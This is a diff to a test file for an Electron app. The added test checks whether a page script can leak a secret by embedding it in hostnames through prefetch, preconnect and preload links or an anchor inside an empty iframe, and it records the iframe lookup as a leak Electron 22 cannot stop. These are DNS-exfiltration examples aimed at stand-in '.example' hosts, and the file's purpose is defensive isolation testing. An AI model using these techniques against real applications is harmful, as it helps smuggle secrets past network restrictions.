@@ -1,16 +1,20 @@
 // A script that has the app's own page, and what it wants to send out: whatever way it tries, nothing arrives at those who listen on this computer.
+import { readFile } from 'node:fs/promises';
+import { join } from 'node:path';
 import { createSocket, type Socket } from 'node:dgram';
 import { createServer, type Server } from 'node:net';
 import type { AddressInfo } from 'node:net';
 import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { type RecordingWebServer, startRecordingWebServer } from './support/recording-web-server';
-import { openStage, type Stage } from './support/stage';
+import { openStage, type Stage, type StartedApp } from './support/stage';
 
 const SECRET = 'what-a-script-wants-out';
 
 let stage: Stage;
+let app: StartedApp;
 let page: Page;
+let netLog: string;
 let web: RecordingWebServer;
 let udp: Socket;
 let tcp: Server;
@@ -26,7 +30,9 @@ beforeAll(async () => {
     socket.on('error', () => undefined).destroy();
   });
   await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
-  page = await (await stage.start()).page();
+  netLog = join(await stage.newFolder(), 'net-log.json');
+  app = await stage.start({ args: [`--log-net-log=${netLog}`] });
+  page = await app.page();
 });
 afterAll(async () => {
   await stage?.dispose();
@@ -124,4 +130,45 @@ test('requests, sockets, prefetching, styles, icons and forms reach nobody', asy
   );
   expect(tried).toBeGreaterThan(15);
   expect(web.paths).toEqual([]);
+});
+
+test('a name that holds a secret is looked up for no link, but for one in an empty frame', async () => {
+  await page.evaluate((secret) => {
+    const control = document.createElement('meta');
+    control.httpEquiv = 'x-dns-prefetch-control';
+    control.content = 'on';
+    document.head.append(control);
+    for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'icon', 'prerender']) {
+      const link = document.createElement('link');
+      Object.assign(link, { rel, href: `https://${rel}.${secret}.example/`, as: 'image' });
+      document.head.append(link);
+    }
+    const anchor = document.createElement('a');
+    anchor.href = `https://anchor.${secret}.example/`;
+    anchor.textContent = 'a link';
+    document.body.append(anchor);
+    // Nothing that Electron 22 offers keeps an empty frame from this (SECURITY.md says so).
+    const { contentDocument } = document.body.appendChild(document.createElement('iframe'));
+    const inFrame = contentDocument?.createElement('a');
+    contentDocument?.head.append(control.cloneNode());
+    if (inFrame) inFrame.href = `https://frame.${secret}.example/`;
+  }, SECRET);
+  // Names that are looked up stand in the log: this one, which main asks for five times in turn while the page's would be.
+  await app.electronApp.evaluate(async ({ net, session }) => {
+    for (let round = 0; round < 5; round++) {
+      await new Promise<void>((resolve) => {
+        const request = net.request({
+          url: `http://asked-by-main-${round}.example/`,
+          session: session.fromPartition('control'),
+        });
+        request.on('error', () => resolve());
+        request.on('response', () => resolve());
+        request.end();
+      });
+    }
+  });
+  await app.quit();
+  const names = new Set((await readFile(netLog, 'utf8')).match(/[\w.-]+\.example/g));
+  expect([...names].filter((name) => name.includes(SECRET))).toEqual([`frame.${SECRET}.example`]);
+  expect(names).toContain('asked-by-main-4.example');
 });
